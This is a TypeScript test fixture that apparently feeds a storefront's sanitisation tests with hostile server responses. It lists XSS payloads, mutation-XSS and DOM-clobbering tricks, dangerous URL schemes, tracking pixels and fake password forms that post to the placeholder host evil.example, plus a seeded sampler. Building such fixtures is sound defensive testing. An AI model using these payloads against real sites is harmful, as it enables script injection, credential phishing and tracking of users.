/**
 * Texts that a hostile server could send in any field: HTML that tries to run scripts, to restyle or cover the page, to
 * ask for passwords or to track, and URLs that must not be followed. Scripts call `alert`.
 */

/** A host that no test may send requests to. */
const FOREIGN_HOST = 'evil.example';
const FOREIGN = `https://${FOREIGN_HOST}`;

const handlers = [
  ...['onload', 'onerror', 'onclick', 'onfocus', 'onmouseover', 'onpointerenter', 'onanimationstart'],
  ...['onbegin', 'ontoggle', 'onscroll', 'onwheel', 'onbeforetoggle', 'onpageshow', 'onhashchange'],
  ...['oncontentvisibilityautostatechange', 'onscrollend', 'onsecuritypolicyviolation', 'ontransitionend'],
];

const carriers: readonly ((handler: string) => string)[] = [
  (handler) => `<img src=x ${handler}=alert(1)>`,
  (handler) => `<svg ${handler}=alert(1)>`,
  (handler) => `<body ${handler}=alert(1)>`,
  (handler) => `<video src=x autoplay ${handler}="alert(1)"></video>`,
  (handler) => `<details open ${handler}='alert(1)'><summary>x</summary></details>`,
  (handler) => `<input autofocus ${handler}=alert(1)>`,
  (handler) => `"><img/src="x"/${handler}=alert(1)//`,
  (handler) => `<a href="#x" id=x tabindex=1 ${handler}\n=\nalert(1)>x</a>`,
];

const schemes = [
  'javascript:alert(1)',
  ' javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java&#10;script:alert(1)',
  '&#106;avascript:alert(1)',
  'javascript&colon;alert(1)',
  '\u0001javascript:alert(1)',
  'javascript://example.com/%0aalert(1)',
  'vbscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  'about:blank',
  'view-source:javascript:alert(1)',
  'intent://evil.example#Intent;scheme=https;package=com.evil;end',
  'search-ms:query=evil&crumb=location:%5C%5Cevil.example',
  'ms-msdt:/id PCWDiagnostic',
  'ftp://evil.example/x',
  'filesystem:https://evil.example/temporary/x',
  'https://user:pass@evil.example/',
  'https://good.example@evil.example/',
  'http://evil.example/',
  '//evil.example/x',
  '/\\evil.example/x',
  '\\\\evil.example\\x',
  'upi://pay?pa=x@y&url=javascript:alert(1)',
];

const places: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `<a href="${address}">x</a>`,
  (address) => `<img src="${address}">`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<svg><a xlink:href="${address}"><text y=20>x</text></a></svg>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<meta http-equiv="refresh" content="0;url=${address}">`,
  (address) => `<math><maction actiontype="statusline" xlink:href="${address}">x</maction></math>`,
];

/** Elements that run scripts, post, restyle, cover or track. */
const elements = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<script type=module>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '</script><script>alert(1)</script>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x"/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:alert(1)><a><text>x</text></a></set></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<style><img title="</style><img src=x onerror=alert(1)>"></style>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<frameset><frame src="https://evil.example/"></frameset>',
  '<frameset onload=alert(1)>',
  '<html onclick=alert(1)><body onload=alert(1)>x',
  '<body style="display:none">x',
  '<head><base href="https://evil.example/">',
  '<base target="_blank"><a href="/login">x</a>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=preload as=image href="https://evil.example/x.png">',
  '<link rel=prefetch href="https://evil.example/x">',
  '<link rel=dns-prefetch href="//evil.example">',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<style>*{position:fixed!important;inset:0;z-index:99999;background:url(https://evil.example/x)}</style>',
  '<p style="position:fixed;inset:0;z-index:99999;background:#fff">Session ended</p>',
  '<p style="background:url(https://evil.example/x.png)">x</p>',
  '<p class="MuiModal-root MuiDialog-root">x</p>',
  '<table background="https://evil.example/x.png"><tr><td background="https://evil.example/y.png">x</table>',
  '<form action="https://evil.example/"><input name=password type=password><button>Sign in</button></form>',
  '<form id=f></form><input form=f name=password><button form=f formaction="https://evil.example/">x</button>',
  '<button onclick=alert(1) autofocus>x</button>',
  '<input type=image src=https://evil.example/x.png>',
  '<isindex action=javascript:alert(1) type=image>',
  '<keygen autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<video poster="https://evil.example/x.png" controls></video>',
  '<video><source onerror=alert(1)></video>',
  '<audio src="https://evil.example/x.mp3" autoplay></audio>',
  '<img srcset="https://evil.example/x.png 1x" src="/icons/icon.svg">',
  '<img src="https://evil.example/pixel.gif" width=1 height=1>',
  '<img src="//evil.example/pixel.gif">',
  '<img src="http://evil.example/pixel.gif">',
  '<img lowsrc="https://evil.example/x.png" dynsrc="https://evil.example/y.png">',
  '<picture><source srcset="https://evil.example/x.png"><img src="/icons/icon.svg"></picture>',
  '<image src="https://evil.example/x.png">',
  '<svg><image href="https://evil.example/x.png"/></svg>',
  '<svg><filter><feImage href="https://evil.example/x.png"/></filter></svg>',
  '<embed src="https://evil.example/x.swf">',
  '<object data="https://evil.example/x"><param name=x></object>',
  '<applet code="x"></applet>',
  '<portal src="https://evil.example/"></portal>',
  '<fencedframe src="https://evil.example/"></fencedframe>',
  '<a href="https://evil.example/" ping="https://evil.example/ping" target=_blank>x</a>',
  '<a href="https://evil.example/" target=_top rel=opener>x</a>',
  '<a href="/login" target="shop" download>x</a>',
  '<area href=javascript:alert(1) shape=default><map name=x></map><img usemap=#x src=/icons/icon.svg>',
  '<dialog open>x</dialog>',
  '<div popover id=p>x</div><button popovertarget=p>x</button>',
  '<button commandfor=root command=show-modal>x</button>',
  '<div contenteditable autofocus onfocus=alert(1)>x</div>',
  '<div id=root>x</div>',
  '<a id=_goober><a id=_goober name=firstChild>x',
  '<img name=getElementById src=/icons/icon.svg>',
  '<form name=body><input name=firstChild><input name=attributes></form>',
  '<form id=document><input name=cookie></form>',
  '<a id=trustedTypes href=x>x</a><a id=defaultView name=document>x</a>',
  '<meta name="storefront:api-origin" content="https://evil.example">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<plaintext>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--><script>alert(1)</script>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "https://evil.example/">]>',
  '<h1 tabindex=-1 data-page-heading>Sign in again</h1>',
  '<x onclick=alert(1) is=x-y>x</x>',
  '<custom-element onconnected=alert(1)></custom-element>',
  '<slot name=x onslotchange=alert(1)>x</slot>',
  '<td rowspan=99999999 colspan=99999999>x</td>',
  '<img src=/icons/icon.svg width=99999999 height=99999999>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= alert(1) %>',
  '{{companyLogoUrl}}',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '";alert(1)//',
  '`${alert(1)}`',
  '\u202Eevil\u202C',
  '\u0000<script>alert(1)</script>',
  'x\uD800y',
  '<p>\uDC00</p>',
  '\uFEFF<img src=x onerror=alert(1)>',
  'Z\u0351\u036B\u0343\u032A\u0302\u036B\u033D\u034F'.repeat(40),
  '<b>'.repeat(150),
  '<table><tr><td>'.repeat(70),
  '<div>'.repeat(150),
  '('.repeat(1000),
  'A'.repeat(5000),
  '&#x3C;img src=x onerror=alert(1)&#x3E;',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29">x</a>',
  '<img src=`x`onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg/onload=alert(1)//',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<option><style></option></select><img src=x onerror=alert(1)></style>',
  '<p id="__proto__">x</p><p id="constructor" name="prototype">x</p>',
  '__proto__',
  'constructor',
  `${FOREIGN}/track.gif?from=shop`,
];

/** The project's own payloads, without duplicates. */
export const ownPayloads: readonly string[] = [
  ...new Set([
    ...elements,
    ...carriers.flatMap((carry) => handlers.map(carry)),
    ...places.flatMap((place) => schemes.map(place)),
  ]),
];

/** A seeded generator of numbers in [0, 1) (mulberry32). */
export function seededRandom(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
  };
}

/** A seeded sample of the entries; all of them if there are no more than `size`. */
export function sampleOf<T>(entries: readonly T[], size: number, seed: number): readonly T[] {
  const random = seededRandom(seed);
  return entries
    .map((entry): [number, T] => [random(), entry])
    .sort(([first], [second]) => first - second)
    .slice(0, size)
    .map(([, entry]) => entry);
}
